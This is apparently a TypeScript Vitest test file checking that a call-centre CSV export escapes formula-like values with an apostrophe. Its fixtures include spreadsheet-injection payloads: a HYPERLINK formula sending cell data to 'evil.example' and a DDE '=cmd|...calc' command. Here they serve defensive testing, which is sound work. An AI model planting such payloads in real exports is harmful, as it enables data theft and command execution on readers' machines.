// A CSV export is opened in a spreadsheet: a caller's number or a queue name that starts like a
// formula (`=HYPERLINK(…)`, `+45…`, `-2+3`, `@SUM(…)`) must arrive as text, never run as a formula.
import { describe, expect, it } from 'vitest';
import { csvCell, csvCellWriter } from '../../src/main/export/csv-sink';
import { ZoneClock } from '../../src/main/export/zone-clock';
import { spreadsheetText } from '../../src/shared/text/spreadsheet-text';
import { FIGURE_COLUMNS, queueTableCsv } from '../../src/shared/statistics/csv';
import type { StatisticsResult } from '../../src/shared/statistics/types';

const clock = new ZoneClock('Europe/Copenhagen');
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+4520100148',
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
];

describe('spreadsheetText', () => {
  it('puts an apostrophe before a value a spreadsheet would read as a formula', () => {
    for (const v of HOSTILE) expect(spreadsheetText(v)).toBe(`'${v}`);
  });
  it('leaves every other value as it is', () => {
    for (const v of ['4520100148', 'Support, "DK"', '', 'a=b', "'quoted", 'Q_Kundeservice', '[erased]'])
      expect(spreadsheetText(v)).toBe(v);
  });
});

describe('calls and events CSV', () => {
  it('writes a formula-like text cell as text (quoted where it needs quotes), with both separators', () => {
    for (const sep of [',', ';'] as const) {
      const cells = HOSTILE.map((v) => csvCell('text', v, clock, sep));
      expect(cells[0]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(cells[1]).toBe("'+4520100148");
      expect(cells[2]).toBe("'-2+3");
      expect(cells[3]).toBe(sep === ',' ? `"'@SUM(1,1)"` : "'@SUM(1,1)");
      expect(cells[5]).toBe(`"'\r=1"`);
      // The per-column writer of the fast path writes the same text as csvCell.
      const writer = csvCellWriter(
        { name: 'caller_number', kind: 'text', width: 20, get: (v: string) => v },
        clock,
        sep,
      );
      expect(HOSTILE.map((v) => writer(v))).toEqual(cells);
    }
  });
  it('leaves numbers alone: a negative number of seconds is a number, not text', () => {
    expect(csvCell('seconds', -2, clock, ',')).toBe('-2');
  });
});

describe('statistics CSV', () => {
  it('writes a formula-like queue name as text', () => {
    const figures = Object.fromEntries(FIGURE_COLUMNS.map((n) => [n, 0])) as unknown as StatisticsResult['total'];
    const result = {
      parameters: { by: ['queue'], timeZone: 'UTC', slSeconds: 20, slAbandons: 'ignore', shortAbandonSeconds: 5 },
      groups: [{ ...figures, key: { queue: '=cmd|"/c calc"!A1' } }],
      total: figures,
    } as unknown as StatisticsResult;
    const lines = queueTableCsv(result, { formulas: false }).split('\r\n');
    expect(lines[1]?.startsWith(`"'=cmd|""/c calc""!A1"`)).toBe(true);
  });
});
